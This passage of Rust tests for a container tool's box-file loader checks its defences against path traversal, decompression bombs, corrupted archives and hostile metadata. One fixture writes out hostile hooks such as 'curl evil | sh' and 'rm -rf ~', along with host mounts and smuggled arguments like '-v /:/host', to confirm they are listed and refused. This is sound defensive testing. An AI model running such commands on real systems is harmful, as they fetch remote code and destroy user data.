            (manifest(), vec![("../../etc/x", b"")], "the image holds the path"),
        ];
        for (manifest, extra, why) in cases {
            let dir = tempfile::tempdir().unwrap();
            let src = image_archive(dir.path(), &manifest, &extra);
            let err = untagged_archive(&src, &dir.path().join("out.tar")).unwrap_err();
            assert!(err.contains(why), "{manifest} {extra:?}: {err}");
        }
    }

    fn v2_meta() -> BoxFile {
        BoxFile {
            format: FORMAT,
            box_name: "dev".into(),
            spec: BoxSpec { image: "debian:bookworm".into(), ..Default::default() },
            exports: Vec::new(),
            image: "localhost/tent-snapshot/podman/dev:tent-save-1".into(),
            image_sha256: String::new(),
            image_size: 0,
            tent_version: "0".into(),
            base: None,
        }
    }

    /// A format-2 box file of the test image, `dir/dev.tent`.
    fn saved_v2(dir: &Path) -> PathBuf {
        let src = image_archive(dir, &manifest(), &[]);
        let file = dir.join("dev.tent");
        write_box_file(&file, &v2_meta(), fs::File::open(&src).unwrap(), &mut LeftOut::default())
            .unwrap()
            .persist(&file)
            .unwrap();
        file
    }

    /// What `tent load` sends the engine for a format-2 file (the held-back
    /// manifest last, as load writes it), and the image's id.
    fn streamed(file: &Path) -> std::result::Result<(Vec<u8>, String), String> {
        let meta = read_streamed_meta(file).map_err(|e| e.to_string())?;
        let mut out = tar::Builder::new(Vec::new());
        let checked = stream_image(file, &meta, &mut out).map_err(|e| e.into_error(file).to_string())?;
        append_json(&mut out, "manifest.json", &checked.manifest).unwrap();
        Ok((out.into_inner().unwrap(), checked.id))
    }

    fn streamed_err(file: &Path) -> String {
        match streamed(file) {
            Ok((_, id)) => panic!("{} streamed, as image {id}", file.display()),
            Err(err) => err,
        }
    }

    #[test]
    fn a_saved_box_streams_back_without_names_and_known_by_its_id() {
        let dir = tempfile::tempdir().unwrap();
        let file = saved_v2(dir.path());
        assert_eq!(fs::read(&file).unwrap()[..4], ZSTD_MAGIC);
        assert_eq!(read_streamed_meta(&file).unwrap(), v2_meta());
        let (sent, id) = streamed(&file).unwrap();
        assert_eq!(id, hex(&Sha256::digest(CONFIG)), "the id is the config's sha256");
        let out = dir.path().join("sent.tar");
        fs::write(&out, &sent).unwrap();
        let got = entries(&out);
        assert_eq!(got.last().map(|(n, _, _)| n.as_str()), Some("manifest.json"), "the manifest comes last");
        assert_one_image_without_names(&got);
    }

    #[test]
    fn a_damaged_or_truncated_streamed_file_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        let src = image_archive(dir.path(), &manifest(), &[("big.tar", &vec![7u8; 300_000])]);
        let file = dir.path().join("dev.tent");
        write_box_file(&file, &v2_meta(), fs::File::open(&src).unwrap(), &mut LeftOut::default())
            .unwrap()
            .persist(&file)
            .unwrap();
        let bytes = fs::read(&file).unwrap();
        for cut in [bytes.len() - 1, bytes.len() - 4, bytes.len() / 2, 30, 5] {
            let short = dir.path().join(format!("short-{cut}"));
            fs::write(&short, &bytes[..cut]).unwrap();
            let err = streamed_err(&short);
            assert!(err.contains("damaged or truncated"), "cut at {cut}: {err}");
        }
        for at in [bytes.len() / 3, bytes.len() * 2 / 3, bytes.len() - 2] {
            let mut bad = bytes.clone();
            bad[at] ^= 0x55;
            let path = dir.path().join(format!("bad-{at}"));
            fs::write(&path, &bad).unwrap();
            let err = streamed_err(&path);
            assert!(err.contains("damaged or truncated"), "flipped at {at}: {err}");
        }
        let mut longer = bytes.clone();
        longer.extend_from_slice(&bytes);
        fs::write(dir.path().join("twice"), &longer).unwrap();
        let err = streamed_err(&dir.path().join("twice"));
        assert!(err.contains("follows"), "{err}");
    }

    #[test]
    fn an_engine_archive_that_breaks_off_is_not_saved() {
        let dir = tempfile::tempdir().unwrap();
        let src = image_archive(dir.path(), &manifest(), &[("big.tar", &vec![7u8; 300_000])]);
        let bytes = fs::read(&src).unwrap();
        let file = dir.path().join("dev.tent");
        // Cut inside an entry: refused as the engine's archive.
        let err = write_box_file(&file, &v2_meta(), &bytes[..bytes.len() / 2], &mut LeftOut::default()).unwrap_err();
        assert!(matches!(err, StreamError::Damaged(_)), "{err:?}");
        // Nothing is under the name until the caller (after the engine's
        // status) gives it one.
        let tmp = write_box_file(&file, &v2_meta(), bytes.as_slice(), &mut LeftOut::default()).unwrap();
        assert!(!file.exists());
        assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 2, "image.tar, the temporary file and nothing else");
        drop(tmp);
        assert_eq!(fs::read_dir(dir.path()).unwrap().count(), 1, "the temporary file goes with it");
    }

    /// A format-2 file as a stranger may write it: any entries, with a
    /// checksum that agrees (anyone can compute it).
    fn crafted(dir: &Path, entries: &[(&str, &[u8])], after: &[(&str, &[u8])]) -> PathBuf {
        let path = dir.join("crafted.tent");
        let zstd = zstd::stream::write::Encoder::new(fs::File::create(&path).unwrap(), 1).unwrap().auto_finish();
        let mut tar = tar::Builder::new(zstd);
        append_json(&mut tar, META, &serde_json::to_vec(&v2_meta()).unwrap()).unwrap();
        let mut digest = ImageDigest::default();
        for (name, data) in entries {
            let mut h = tar::Header::new_gnu();
            h.set_size(data.len() as u64);
            h.set_mode(0o644);
            let name = format!("{IMAGE_DIR}{name}");
            if name.contains("..") {
                h.as_old_mut().name[..name.len()].copy_from_slice(name.as_bytes());
                h.set_cksum();
                tar.append(&h, *data).unwrap();
            } else {
                tar.append_data(&mut h, &name, *data).unwrap();
            }
            let inner = name.strip_prefix(IMAGE_DIR).unwrap();
            digest.add(inner, EntryKind::File, "", data.len() as u64, &Sha256::digest(data));
        }
        append_json(&mut tar, END, &serde_json::to_vec(&digest.end()).unwrap()).unwrap();
        for (name, data) in after {
            append_json(&mut tar, name, data).unwrap();
        }
        tar.finish().unwrap();
        path
    }

    /// One zstd frame written by hand, as a stranger may: `window` is its
    /// window descriptor byte (window = 2^(10 + byte >> 3)), `blocks` its
    /// blocks as (type, size, content); the last one ends the frame.
    fn zstd_frame(window: u8, blocks: impl ExactSizeIterator<Item = (u32, u32, Vec<u8>)>) -> Vec<u8> {
        let mut frame = ZSTD_MAGIC.to_vec();
        frame.extend([0x00, window]);
        let n = blocks.len();
        for (i, (kind, size, content)) in blocks.enumerate() {
            let header = u32::from(i + 1 == n) | (kind << 1) | (size << 3);
            frame.extend(&header.to_le_bytes()[..3]);
            frame.extend(content);
        }
        frame
    }

    /// A zstd frame of `n` RLE blocks of 128 KiB of zeros: 4 bytes each.
    fn zeros_frame(n: usize) -> Vec<u8> {
        zstd_frame(0x38, (0..n).map(|_| (1, 128 * 1024, vec![0])))
    }

    /// The start of a format-2 box file: its metadata, then the header of
    /// one image entry of `declared` bytes (its content left to follow).
    fn bomb_head(declared: u64) -> Vec<u8> {
        let mut tar = tar::Builder::new(Vec::new());
        append_json(&mut tar, META, &serde_json::to_vec(&v2_meta()).unwrap()).unwrap();
        let mut header = tar::Header::new_gnu();
        header.set_path("image/layer.tar").unwrap();
        header.set_size(declared);
        header.set_mode(0o644);
        header.set_cksum();
        tar.get_mut().extend_from_slice(header.as_bytes());
        tar.get_ref().clone()
    }

    #[test]
    fn inflating_stops_one_byte_past_the_limit() {
        let mut exact = Inflated::new(&[7u8; 100][..], 100);
        let mut all = Vec::new();
        exact.read_to_end(&mut all).unwrap();
        assert_eq!((all.len(), exact.over.get()), (100, false));
        let mut over = Inflated::new(&[7u8; 101][..], 100);
        let err = over.read_to_end(&mut Vec::new()).unwrap_err();
        assert!(err.to_string().contains("more than 100 bytes"), "{err}");
        assert!(over.over.get());
        assert_eq!(inflate_limit(1), INFLATE_FLOOR);
        assert_eq!(inflate_limit(1 << 40), (1 << 40) * INFLATE_RATIO);
        assert_eq!(inflate_limit(u64::MAX), u64::MAX);
    }

    /// A 512 KiB file whose image entry says 1 TiB and whose zstd frames
    /// inflate to 16 GiB of zeros: refused once it passes 1 GiB, with the
    /// reason, and nothing past that reaches the engine's stream.
    #[test]
    fn a_decompression_bomb_is_refused_bounded() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("bomb.tent");
        let mut bytes = zstd::encode_all(&bomb_head(1 << 40)[..], 1).unwrap();
        bytes.extend(zeros_frame(16 * 8 * 1024));
        fs::write(&file, &bytes).unwrap();
        assert!(bytes.len() < 600 * 1024, "{} bytes", bytes.len());
        let meta = read_streamed_meta(&file).unwrap();
        let mut sent = CountingSink(0);
        let err = stream_image(&file, &meta, &mut tar::Builder::new(&mut sent)).unwrap_err().into_error(&file);
        let text = err.to_string();
        assert!(text.contains("decompression bomb") && text.contains("1024 MiB"), "{text}");
        assert!(sent.0 <= INFLATE_FLOOR, "{} bytes went on", sent.0);
        assert!(sent.0 > INFLATE_FLOOR / 2, "it stopped early: {} bytes", sent.0);
    }

    struct CountingSink(u64);

    impl Write for CountingSink {
        fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
            self.0 += buf.len() as u64;
            Ok(buf.len())
        }
        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    /// A legacy (gzip) file that declares a 1 TiB image is refused before a
    /// byte of it is written to the disk.
    #[test]
    fn a_legacy_file_declaring_terabytes_is_refused_before_writing() {
        let dir = tempfile::tempdir().unwrap();
        let out = tempfile::tempdir().unwrap();
        let mut meta = v2_meta();
        meta.format = LEGACY_FORMAT;
        meta.image_sha256 = "0".repeat(64);
        meta.image_size = 1 << 40;
        let mut tar = tar::Builder::new(Vec::new());
        append_json(&mut tar, META, &serde_json::to_vec(&meta).unwrap()).unwrap();
        let mut header = tar::Header::new_gnu();
        header.set_path(IMAGE).unwrap();
        header.set_size(1 << 40);
        header.set_mode(0o644);
        header.set_cksum();
        tar.get_mut().extend_from_slice(header.as_bytes());
        tar.get_mut().extend(vec![0u8; 1 << 20]);
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        gz.write_all(tar.get_ref()).unwrap();
        let file = dir.path().join("bomb.tent");
        fs::write(&file, gz.finish().unwrap()).unwrap();
        let err = read_box_file(&file, out.path()).unwrap_err().to_string();
        assert!(err.contains("decompression bomb"), "{err}");
        assert_eq!(fs::read_dir(out.path()).unwrap().count(), 0, "nothing was written");
    }

    /// A frame that asks for a 32 MiB window (tent writes 2 MiB) is refused
    /// instead of allocated.
    #[test]
    fn a_frame_with_a_huge_window_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        let head = bomb_head(0);
        let frame = zstd_frame(0x78, std::iter::once((0, head.len() as u32, head.clone())));
        let file = dir.path().join("window.tent");
        fs::write(&file, &frame).unwrap();
        let err = read_streamed_meta(&file).unwrap_err().to_string();
        assert!(err.contains("window larger than 16 MiB"), "{err}");
        // The same bytes with a 128 KiB window are read.
        let frame = zstd_frame(0x38, std::iter::once((0, head.len() as u32, head)));
        fs::write(&file, &frame).unwrap();
        assert_eq!(read_streamed_meta(&file).unwrap(), v2_meta());
    }

    #[test]
    fn streamed_archives_that_are_not_one_plain_image_are_refused() {
        let m = |v: serde_json::Value| serde_json::to_vec(&v).unwrap();
        let one = m(manifest());
        let two = m(serde_json::json!([{"Config": "cfg.json"}, {"Config": "cfg.json"}]));
        let named = m(serde_json::json!([{"Config": "repositories"}]));
        let itself = m(serde_json::json!([{"Config": "manifest.json"}]));
        let missing = m(serde_json::json!([{"Config": "nope.json"}]));
        let big = vec![b' '; CONFIG_LIMIT as usize + 1];
        type Case<'a> = (Vec<(&'a str, &'a [u8])>, Vec<(&'a str, &'a [u8])>, &'a str);
        let cases: Vec<Case<'_>> = vec![
            (vec![("cfg.json", CONFIG), ("manifest.json", &two)], vec![], "holds 2 images"),
            (vec![("cfg.json", CONFIG)], vec![], "no manifest.json"),
            (vec![("repositories", b"{}"), ("manifest.json", &named)], vec![], "config is repositories"),
            (vec![("manifest.json", &itself)], vec![], "config is manifest.json"),
            (vec![("cfg.json", CONFIG), ("manifest.json", &missing)], vec![], "no config nope.json"),
            (vec![("cfg.json", &big), ("manifest.json", &one)], vec![], "larger than"),
            (vec![("cfg.json", CONFIG), ("cfg.json", CONFIG), ("manifest.json", &one)], vec![], "cfg.json twice"),
            (vec![("cfg.json", CONFIG), ("./cfg.json", CONFIG)], vec![], "cfg.json twice"),
            (vec![("manifest.json", &one), ("manifest.json", b"[]")], vec![], "manifest.json twice"),
            (vec![("../../etc/x", b"")], vec![], "the image holds the path"),
            (vec![("cfg.json", CONFIG), ("manifest.json", &one)], vec![("image/extra", b"x")], "more follows"),
        ];
        for (entries, after, why) in cases {
            let dir = tempfile::tempdir().unwrap();
            let file = crafted(dir.path(), &entries, &after);
            let err = streamed_err(&file);
            assert!(err.contains(why), "{:?}: {err}", entries.iter().map(|e| e.0).collect::<Vec<_>>());
        }
        // Outside image/: refused.
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("outside.tent");
        let zstd = zstd::stream::write::Encoder::new(fs::File::create(&path).unwrap(), 1).unwrap().auto_finish();
        let mut tar = tar::Builder::new(zstd);
        append_json(&mut tar, META, &serde_json::to_vec(&v2_meta()).unwrap()).unwrap();
        append_json(&mut tar, "manifest.json", &one).unwrap();
        tar.finish().unwrap();
        drop(tar);
        assert!(streamed_err(&path).contains("where the image's entries are"));
        // The same, as one plain image: loads.
        let file = crafted(dir.path(), &[("cfg.json", CONFIG), ("manifest.json", &one)], &[]);
        let (_, id) = streamed(&file).unwrap();
        assert_eq!(id, hex(&Sha256::digest(CONFIG)));
    }

    fn hostile_meta() -> BoxFile {
        let bin = |name: &str, dir: &str| Export {
            kind: Kind::Bin,
            name: name.into(),
            title: None,
            request: "/bin/busybox".into(),
            target: "/bin/busybox".into(),
            files: vec![PathBuf::from(dir).join(name)],
            dir: Some(dir.into()),
            tent: "/usr/bin/tent".into(),
        };
        BoxFile {
            format: FORMAT,
            box_name: "dev".into(),
            spec: BoxSpec {
                image: "debian:bookworm".into(),
                start_hooks: vec!["curl evil | sh\u{1b}]0;title\u{7}".into()],
                init_hooks: vec!["id".into()],
                attach_hooks: vec!["rm -rf ~".into()],
                volumes: vec!["/etc:/etc".into()],
                sudo_nopasswd: true,
                ..Default::default()
            },
            exports: vec![
                bin("sudo", "/home/u/.local/bin"),
                bin("rc", "/home/u/.ssh"),
                bin("tent", "/home/u/.local/bin"),
                bin("../x", "/home/u/.local/bin"),
                Export { kind: Kind::Entry, ..bin("dev", "/x") },
            ],
            image: "--help".into(),
            image_sha256: "0".repeat(64),
            image_size: 1,
            tent_version: "0".into(),
            base: None,
        }
    }

    #[test]
    fn hooks_mounts_and_exports_of_a_file_are_listed_before_anything_is_made() {
        let bin_dir = Path::new("/home/u/.local/bin");
        let plan = LoadPlan::new(&hostile_meta(), "dev", bin_dir);
        let text = plan.asks.join("\n");
        assert!(text.contains("runs as root in the box at every start: curl evil | sh"), "{text}");
        assert!(!text.contains('\u{1b}') && !text.contains('\u{7}'), "sanitized: {text:?}");
        assert!(text.contains("runs as root in the box once, when it is made: id"), "{text}");
        assert!(text.contains("runs as you in the box at each `tent enter`: rm -rf ~"), "{text}");
        assert!(text.contains("mounts in the box: /etc:/etc"), "{text}");
        assert!(text.contains("sudo without a password"), "{text}");
        assert!(text.contains("writes command /home/u/.local/bin/sudo"), "{text}");
        // A command the file put elsewhere goes into the user's bin folder only.
        assert!(text.contains("writes command /home/u/.local/bin/rc") && text.contains("another folder"), "{text}");
        assert!(!text.contains(".ssh/rc"), "{text}");
        assert!(plan.exports.iter().all(|e| e.kind != Kind::Bin || e.dir.as_deref() == Some(bin_dir)));
        assert!(text.contains("dev's own launcher"), "{text}");
        let refused = plan.refused.join("\n");
        assert!(refused.contains("\"tent\"") && refused.contains("'/'"), "{refused}");
        assert_eq!(plan.exports.len(), 3, "{:?}", plan.exports);
        // A plain box asks for nothing.
        let plain =
            BoxFile { spec: BoxSpec { image: "x".into(), ..Default::default() }, exports: vec![], ..hostile_meta() };
        assert_eq!(LoadPlan::new(&plain, "dev", bin_dir), LoadPlan::default());
    }

    /// Found by the property below (at = 3340, xor = 32): a flipped byte in
    /// the metadata read as format 42, and tent said to get a newer tent.
    /// The file is damaged, and zstd's checksum says so once the frame is
    /// read to its end. Every byte of the file, flipped the same way.
    #[test]
    fn a_flipped_byte_is_never_a_newer_format() {
        let dir = tempfile::tempdir().unwrap();
        let file = saved_v2(dir.path());
        let good = fs::read(&file).unwrap();
        for at in 0..good.len() {
            let mut bytes = good.clone();
            bytes[at] ^= 32;
            fs::write(&file, &bytes).unwrap();
            if let Err(err) = read_streamed_meta(&file) {
                let err = err.to_string();
                assert!(!err.contains("newer"), "flipped at {at}: {err}");
            }
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(256))]

        /// Whatever byte of a saved file is changed, or wherever it is cut:
        /// refused, or (a change zstd's framing ignores) the very same image.
        #[test]
        fn a_changed_or_cut_streamed_file_is_refused_or_the_same(at in 0usize..100_000, xor in 1u8..=255,
                                                                 cut in proptest::option::of(0usize..100_000)) {
            let dir = tempfile::tempdir().unwrap();
            let file = saved_v2(dir.path());
            let good = streamed(&file).unwrap();
            let mut bytes = fs::read(&file).unwrap();
            let at = at % bytes.len();
            bytes[at] ^= xor;
            if let Some(cut) = cut {
                bytes.truncate(cut % bytes.len());
            }
            fs::write(&file, &bytes).unwrap();
            match streamed(&file) {
                Ok(got) => proptest::prop_assert_eq!(got, good),
                Err(err) => proptest::prop_assert!(
                    err.contains("damaged or truncated") || err.contains("not a tent box file"), "{}", err),
            }
        }

        #[test]
        fn metadata_parsers_never_panic(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..512)) {
            let _ = parse_meta(&bytes);
            let _ = parse_manifest(&bytes);
        }

        #[test]
        fn manifests_with_hostile_paths_never_escape(config in "[./a-z-]{0,12}", n in 0usize..3) {
            let list: Vec<_> = (0..n).map(|_| serde_json::json!({"Config": config})).collect();
            let bytes = serde_json::to_vec(&list).unwrap();
            if let Ok((_, path)) = parse_manifest(&bytes) {
                proptest::prop_assert_eq!(n, 1);
                proptest::prop_assert!(!path.split('/').any(|p| p == ".." || p == "." || p.is_empty()), "{}", path);
            }
        }

        /// What `tent save` writes is read back as it was; and the plan of
        /// any file lists every hook and command it would make.
        #[test]
        fn written_metadata_round_trips(name in "[ -~]{0,20}", image in "[ -~]{1,30}", hook in "\\PC{0,30}",
                                        export in "[ -~]{0,12}") {
            let meta = BoxFile {
                box_name: name,
                image,
                spec: BoxSpec { image: "x".into(), start_hooks: vec![hook], ..Default::default() },
                exports: vec![Export { name: export, ..hostile_meta().exports[0].clone() }],
                ..hostile_meta()
            };
            let json = serde_json::to_vec_pretty(&meta).unwrap();
            proptest::prop_assert_eq!(parse_meta(&json).unwrap(), meta.clone());
            let plan = LoadPlan::new(&meta, "dev", Path::new("/b"));
            proptest::prop_assert_eq!(plan.exports.len() + plan.refused.len(), 1);
            proptest::prop_assert!(plan.asks.iter().all(|l| crate::output::sanitize(l) == l.as_str()));
        }
    }

    #[test]
    fn meta_versions() {
        assert_eq!(parse_meta(br#"{"format":4}"#).unwrap_err(), MetaError::Newer(4));
        // Format 3 names its base image; no other format does.
        let v3 = serde_json::to_vec(&BoxFile { format: 3, image_sha256: String::new(), ..hostile_meta() }).unwrap();
        assert!(matches!(parse_meta(&v3), Err(MetaError::Bad(why)) if why.contains("names no base")));
        let with_base = BoxFile { image_sha256: String::new(), base: Some(thin_base(b"base")), ..hostile_meta() };
        let v2 = serde_json::to_vec(&with_base).unwrap();
        assert!(matches!(parse_meta(&v2), Err(MetaError::Bad(why)) if why.contains("only a file of format 3")));
        let v3 = serde_json::to_vec(&BoxFile { format: 3, ..with_base.clone() }).unwrap();
        assert_eq!(parse_meta(&v3).unwrap().base, with_base.base);
        let mut bad = BoxFile { format: 3, ..with_base };
        bad.base.as_mut().unwrap().image = "-v /:/host".into();
        assert!(
            matches!(parse_meta(&serde_json::to_vec(&bad).unwrap()), Err(MetaError::Bad(why)) if why.contains("base image"))
        );
        // Format 1 has the image's checksum in the metadata; format 2 after the image.
        let v2 = serde_json::to_vec(&BoxFile { image_sha256: String::new(), ..hostile_meta() }).unwrap();
        assert!(parse_meta(&v2).is_ok());
        let v1 = serde_json::to_vec(&BoxFile { format: 1, image_sha256: String::new(), ..hostile_meta() }).unwrap();
        assert!(matches!(parse_meta(&v1), Err(MetaError::Bad(_))));
        assert!(matches!(parse_meta(b"nope"), Err(MetaError::Bad(_))));
        assert!(matches!(parse_meta(br#"{"format":1,"box":"d"}"#), Err(MetaError::Bad(_))));
    }

    /// A base of one layer whose tar is `layer`.
    fn thin_base(layer: &[u8]) -> Base {
        Base {
            image: "debian:bookworm".into(),
            id: "e".repeat(64),
            layers: vec![format!("sha256:{}", hex(&Sha256::digest(layer)))],
        }
    }

    const BASE_LAYER: &[u8] = b"the base image's layer";
    const OWN_LAYER: &[u8] = b"what the box changed";

    /// An image of two layers (the base's, the box's own) as podman
    /// (`podman: true`: `HEX.tar` files and links to them) or Docker
    /// (folders with a `layer.tar` each) writes it; returns it and its config.
    fn layered_archive(dir: &Path, podman: bool) -> (PathBuf, Vec<u8>) {
        let (a, b) = (hex(&Sha256::digest(BASE_LAYER)), hex(&Sha256::digest(OWN_LAYER)));
        let config = serde_json::to_vec(&serde_json::json!({
            "architecture": "amd64",
            "rootfs": {"type": "layers", "diff_ids": [format!("sha256:{a}"), format!("sha256:{b}")]}
        }))
        .unwrap();
        let config_name = format!("{}.json", hex(&Sha256::digest(&config)));
        let path = dir.join(if podman { "podman.tar" } else { "docker.tar" });
        let mut builder = tar::Builder::new(fs::File::create(&path).unwrap());
        let mut add = |name: &str, data: &[u8]| {
            let mut h = tar::Header::new_gnu();
            h.set_size(data.len() as u64);
            h.set_mode(0o444);
            builder.append_data(&mut h, name, data).unwrap();
        };
        let layers = if podman {
            add(&format!("{a}.tar"), BASE_LAYER);
            add(&format!("{b}.tar"), OWN_LAYER);
            add(&config_name, &config);
            ["d1/layer.tar", "d2/layer.tar"]
        } else {
            // In name order, as Docker writes it: the box's own layer's
            // folder first, before the folder of the layer below it.
            add(&config_name, &config);
            add("v1b/VERSION", b"1.0");
            add("v1b/json", br#"{"id":"v1b","parent":"v1a"}"#);
            add("v1b/layer.tar", OWN_LAYER);
            add("v1a/VERSION", b"1.0");
            add("v1a/json", br#"{"id":"v1a"}"#);
            add("v1a/layer.tar", BASE_LAYER);
            ["v1a/layer.tar", "v1b/layer.tar"]
        };
        let manifest = serde_json::json!([{"Config": config_name, "RepoTags": ["x:y"], "Layers": layers}]);
        add("manifest.json", &serde_json::to_vec(&manifest).unwrap());
        if podman {
            for (link, to) in [("d1/layer.tar", &a), ("d2/layer.tar", &b)] {
                let mut h = tar::Header::new_gnu();
                h.set_entry_type(tar::EntryType::Symlink);
                h.set_size(0);
                builder.append_link(&mut h, link, format!("../{to}.tar")).unwrap();
            }
        }
        builder.finish().unwrap();
        drop(builder);
        (path, config)
    }

    fn thin_meta() -> BoxFile {
        BoxFile { format: FORMAT_WITHOUT_BASE, base: Some(thin_base(BASE_LAYER)), ..v2_meta() }
    }

    /// The names and contents of a box file's entries.
    fn box_file_entries(file: &Path) -> Vec<(String, Vec<u8>)> {
        let (mut archive, _, _) = open_streamed(file).unwrap();
        archive
            .entries()
            .unwrap()
            .map(|e| {
                let mut e = e.unwrap();
                let mut data = Vec::new();
                e.read_to_end(&mut data).unwrap();
                (e.path().unwrap().to_string_lossy().into_owned(), data)
            })
            .collect()
    }

    #[test]
    fn a_box_saved_without_its_base_leaves_out_the_bases_layer_and_loads_with_a_stand_in() {
        for podman in [true, false] {
            let dir = tempfile::tempdir().unwrap();
            let (src, config) = layered_archive(dir.path(), podman);
            let file = dir.path().join("dev.tent");
            let mut left = LeftOut::default();
            write_box_file(&file, &thin_meta(), fs::File::open(&src).unwrap(), &mut left)
                .unwrap()
                .persist(&file)
                .unwrap();
            assert_eq!((left.layers, left.bytes), (1, BASE_LAYER.len() as u64), "podman: {podman}");
            let held = box_file_entries(&file);
            assert!(held.iter().all(|(_, data)| data != BASE_LAYER), "the base's layer is not in the file");
            assert!(held.iter().any(|(_, data)| data == OWN_LAYER), "the box's own is");
            assert_eq!(read_streamed_meta(&file).unwrap(), thin_meta());

            let (sent, id) = streamed(&file).unwrap();
            assert_eq!(id, hex(&Sha256::digest(&config)));
            let out = dir.path().join("sent.tar");
            fs::write(&out, &sent).unwrap();
            let got = entries(&out);
            let stand_in =
                if podman { format!("{}.tar", hex(&Sha256::digest(BASE_LAYER))) } else { "v1a/layer.tar".into() };
            let found = got.iter().find(|(n, _, _)| *n == stand_in).unwrap_or_else(|| panic!("{stand_in}: {got:?}"));
            assert!(found.1.is_empty(), "an empty stand-in where the engine looks for the base's layer");
            assert!(got.iter().any(|(_, data, _)| data == OWN_LAYER));
            assert_eq!(got.last().map(|(n, _, _)| n.as_str()), Some("manifest.json"));
        }
    }

    /// A base of two layers under Docker's folders, in an order where the
    /// depth of one of the base's is not known when its layer comes (it
    /// goes through a scratch file), and the box's own comes with more
    /// parents known than the base has layers (written at once).
    #[test]
    fn docker_layers_of_a_base_of_two_are_told_by_depth_or_by_content() {
        let layers: [&[u8]; 3] = [b"base bottom", b"base top", b"the box's own"];
        let digests: Vec<String> = layers.iter().map(|l| format!("sha256:{}", hex(&Sha256::digest(l)))).collect();
        let config =
            serde_json::to_vec(&serde_json::json!({"rootfs": {"type": "layers", "diff_ids": digests}})).unwrap();
        let config_name = format!("{}.json", hex(&Sha256::digest(&config)));
        let mut builder = tar::Builder::new(Vec::new());
        let mut add = |name: &str, data: &[u8]| {
            let mut h = tar::Header::new_gnu();
            h.set_size(data.len() as u64);
            builder.append_data(&mut h, name, data).unwrap();
        };
        add(&config_name, &config);
        // f1: the base's top (its parent f3 not yet seen); f2: the box's own; f3: the bottom.
        add("f1/json", br#"{"id":"f1","parent":"f3"}"#);
        add("f1/layer.tar", layers[1]);
        add("f2/json", br#"{"id":"f2","parent":"f1"}"#);
        add("f2/layer.tar", layers[2]);
        add("f3/json", br#"{"id":"f3"}"#);
        add("f3/layer.tar", layers[0]);
        let manifest =
            serde_json::json!([{"Config": config_name, "Layers": ["f3/layer.tar", "f1/layer.tar", "f2/layer.tar"]}]);
        add("manifest.json", &serde_json::to_vec(&manifest).unwrap());
        let archive = builder.into_inner().unwrap();
        let base = Base { image: "b:1".into(), id: "e".repeat(64), layers: digests[..2].to_vec() };
        let meta = BoxFile { base: Some(base), ..thin_meta() };
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("dev.tent");
        let mut left = LeftOut::default();
        write_box_file(&file, &meta, archive.as_slice(), &mut left).unwrap().persist(&file).unwrap();
        assert_eq!((left.layers, left.bytes), (2, (layers[0].len() + layers[1].len()) as u64));
        let held: Vec<Vec<u8>> = box_file_entries(&file).into_iter().map(|(_, d)| d).collect();
        assert!(
            held.contains(&layers[2].to_vec())
                && !held.contains(&layers[0].to_vec())
                && !held.contains(&layers[1].to_vec())
        );
        let (sent, _) = streamed(&file).unwrap();
        let out = dir.path().join("sent.tar");
        fs::write(&out, &sent).unwrap();
        let got = entries(&out);
        for stand_in in ["f3/layer.tar", "f1/layer.tar"] {
            assert!(got.iter().any(|(n, d, _)| n == stand_in && d.is_empty()), "{stand_in}: {got:?}");
        }
    }

    #[test]
    fn a_save_without_a_base_the_archive_lacks_or_misnames_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        let (src, _) = layered_archive(dir.path(), true);
        let file = dir.path().join("dev.tent");
        // The base names a layer the image does not have.
        let other = BoxFile { base: Some(thin_base(b"another layer")), ..thin_meta() };
        let err = write_box_file(&file, &other, fs::File::open(&src).unwrap(), &mut LeftOut::default()).unwrap_err();
        assert!(matches!(&err, StreamError::Damaged(why) if why.contains("lacks 1 of the layers")), "{err:?}");
        // A layer file named as the base's whose content is not.
        let (a, b) = (hex(&Sha256::digest(BASE_LAYER)), hex(&Sha256::digest(OWN_LAYER)));
        let mut builder = tar::Builder::new(Vec::new());
        let mut h = tar::Header::new_gnu();
        h.set_size(OWN_LAYER.len() as u64);
        builder.append_data(&mut h, format!("{a}.tar"), OWN_LAYER).unwrap();
        let bytes = builder.into_inner().unwrap();
        let err = write_box_file(&file, &thin_meta(), bytes.as_slice(), &mut LeftOut::default()).unwrap_err();
        assert!(matches!(&err, StreamError::Damaged(why) if why.contains(&b)), "{err:?}");
        // A Docker folder whose json makes it the bottom layer, whose content is not the base's.
        let mut builder = tar::Builder::new(Vec::new());
        for (name, data) in [("v1x/json", &br#"{"id":"v1x"}"#[..]), ("v1x/layer.tar", OWN_LAYER)] {
            let mut h = tar::Header::new_gnu();
            h.set_size(data.len() as u64);
            builder.append_data(&mut h, name, data).unwrap();
        }
        let bytes = builder.into_inner().unwrap();
        let err = write_box_file(&file, &thin_meta(), bytes.as_slice(), &mut LeftOut::default()).unwrap_err();
        assert!(matches!(&err, StreamError::Damaged(why) if why.contains("not its base's")), "{err:?}");
        assert!(!file.exists());
    }

    #[test]
    fn a_file_without_its_base_that_also_lacks_the_boxs_own_layer_is_refused() {
        let dir = tempfile::tempdir().unwrap();
        let (src, _) = layered_archive(dir.path(), false);
        // Saved as if both layers were the base's: the file holds neither,
        // and then claims only the first as its base.
        let both = Base {
            layers: [BASE_LAYER, OWN_LAYER].iter().map(|l| format!("sha256:{}", hex(&Sha256::digest(l)))).collect(),
            ..thin_base(BASE_LAYER)
        };
        let file = dir.path().join("dev.tent");
        let meta = BoxFile { base: Some(both), ..thin_meta() };
        write_box_file(&file, &meta, fs::File::open(&src).unwrap(), &mut LeftOut::default())
            .unwrap()
            .persist(&file)
            .unwrap();
        let (sent, _) = streamed(&file).unwrap();
        assert!(!sent.is_empty(), "as saved, it loads (the engine has both)");
        // The same entries under metadata that names only the first.
        let lying = dir.path().join("lying.tent");
        let rewritten: Vec<(String, Vec<u8>)> = box_file_entries(&file)
            .into_iter()
